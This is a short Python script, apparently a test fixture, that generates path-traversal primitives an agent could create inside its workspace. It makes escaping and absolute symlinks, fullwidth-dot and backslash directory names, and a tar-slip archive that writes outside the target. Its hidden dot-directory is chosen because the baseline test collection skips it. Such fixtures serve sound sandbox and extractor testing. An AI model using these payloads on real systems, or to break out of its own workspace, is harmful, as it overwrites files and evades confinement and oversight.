"""Every traversal primitive an agent can mint from inside its workspace."""

import io
import os
import tarfile

os.makedirs("/workspace/.slip")
os.chdir("/workspace/.slip")  # a dot-directory: the baselines' test collection skips it
os.symlink("../../../../../..", "escape")  # a relative link that leaves any root
os.symlink("/etc", "abs-etc")  # an absolute link
for weird in ("\uff0e\uff0e", "..\\..\\tmp"):  # fullwidth dots; Windows separators
    os.makedirs(weird, exist_ok=True)
    with open(os.path.join(weird, "pwned.txt"), "w") as fh:
        fh.write("written outside the target by a naive extractor\n")

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w") as tf:

    def add(name, data=b"pwned\n", kind=tarfile.REGTYPE, link=""):
        info = tarfile.TarInfo(name)
        regular = kind == tarfile.REGTYPE
        info.type, info.linkname, info.size = kind, link, len(data) if regular else 0
        tf.addfile(info, io.BytesIO(data) if regular else None)

    add("../../../../tmp/assay-tarslip-dotdot")
    add("/tmp/assay-tarslip-absolute")
    add("lnk", kind=tarfile.SYMTYPE, link="/tmp")
    add("lnk/assay-tarslip-through-link")
with open("slip.tar", "wb") as fh:
    fh.write(buf.getvalue())
